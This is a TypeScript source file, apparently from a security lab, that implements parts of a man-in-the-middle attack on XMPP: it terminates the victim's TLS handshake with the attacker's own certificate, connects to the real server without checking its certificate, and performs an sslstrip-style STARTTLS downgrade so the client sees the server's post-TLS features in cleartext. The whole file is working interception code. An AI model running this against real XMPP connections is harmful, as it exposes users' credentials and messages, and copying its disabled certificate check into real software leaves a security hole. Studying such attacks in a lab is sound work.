import type net from "node:net";
import { Duplex } from "node:stream";
import tls from "node:tls";
import { Element } from "ltx";
import { NS } from "../lab/core/ns.js";
import { headerXml } from "../lab/core/stanzas.js";
import { handshakeDone, type KeyLog, serverContext, type Identity } from "../lab/core/tls.js";
import { XmlStreamParser } from "../lab/core/xml-stream.js";

/**
 * A Duplex over a raw socket that first replays bytes already read from it. TLSSocket reads
 * a net.Socket's handle directly, so a ClientHello we peeked at would otherwise be lost.
 */
export function replaying(raw: net.Socket, already: Buffer | null): Duplex {
  raw.removeAllListeners("data");
  const d = new Duplex({
    read() {},
    write(chunk, _enc, cb) {
      if (raw.destroyed) return cb();
      raw.write(chunk, cb);
    },
    final(cb) {
      raw.end();
      cb();
    },
  });
  if (already?.length) d.push(already);
  raw.on("data", (c) => d.push(c));
  raw.on("end", () => d.push(null));
  raw.on("close", () => d.destroy());
  raw.on("error", () => {});
  return d;
}

/** Answer the victim's TLS handshake with the attacker's own identity. */
export function terminateTls(raw: net.Socket, already: Buffer | null, id: Identity, keylog?: KeyLog): Promise<tls.TLSSocket> {
  const s = new tls.TLSSocket(replaying(raw, already), { isServer: true, secureContext: serverContext(id), ALPNProtocols: ["xmpp-client"] });
  return handshakeDone(s, "secure", keylog);
}

/** Open the attacker's own TLS to the real server. It checks nothing: it is the attacker. */
export function tlsToServer(raw: net.Socket, domain: string, keylog?: KeyLog): Promise<tls.TLSSocket> {
  raw.removeAllListeners("data");
  const s = tls.connect({ socket: raw, servername: domain, rejectUnauthorized: false, ALPNProtocols: ["xmpp-client"] });
  return handshakeDone(s, "secureConnect", keylog);
}

/** Read elements from a socket until `want` matches, bounded in time. */
function readUntil(sock: net.Socket, want: (el: Element | "header") => boolean, ms: number, midStream: boolean): Promise<Element[]> {
  return new Promise((resolve, reject) => {
    const seen: Element[] = [];
    const timer = setTimeout(() => finish(new Error("upstream did not answer")), ms);
    const parser = new XmlStreamParser({
      onStreamStart: () => {
        if (want("header")) finish(null);
      },
      onElement: (el) => {
        seen.push(el);
        if (want(el)) {
          parser.pause();
          finish(null);
        }
      },
      onStreamEnd: () => finish(new Error("upstream closed the stream")),
      onError: (c) => finish(new Error("upstream sent bad XML: " + c)),
    });
    if (midStream) parser.assumeOpen({});
    const onData = (c: Buffer) => parser.write(c);
    const onClose = () => finish(new Error("upstream closed the connection"));
    sock.on("data", onData);
    sock.once("close", onClose);
    function finish(err: Error | null) {
      clearTimeout(timer);
      sock.pause(); // no listener until the relay attaches its own: keep the bytes

      sock.off("data", onData);
      sock.off("close", onClose);
      if (err) reject(err);
      else resolve(seen);
    }
  });
}

/**
 * sslstrip's third move, for XMPP: the server requires TLS, so the attacker does STARTTLS
 * with it itself, restarts the stream as the client would (RFC 6120 §5.4.3.3), and returns the
 * post-TLS features - which the attacker then shows alice, in cleartext, as her first ones.
 */
export async function upstreamStartTls(
  raw: net.Socket,
  clientHeader: Record<string, string>,
  domain: string,
  ms: number,
  keylog?: KeyLog,
): Promise<{ socket: tls.TLSSocket; features: Element }> {
  raw.removeAllListeners("data");
  raw.write(new Element("starttls", { xmlns: NS.tls }).toString());
  const answer = await readUntil(raw, (el) => el !== "header" && (el.name === "proceed" || el.name === "failure"), ms, true);
  if (answer.at(-1)?.name !== "proceed") throw new Error("the server refused STARTTLS");
  const socket = await tlsToServer(raw, domain, keylog);
  socket.write(headerXml(clientHeader));
  const els = await readUntil(socket, (el) => el !== "header" && el.name === "stream:features", ms, false);
  return { socket, features: els.at(-1)! };
}
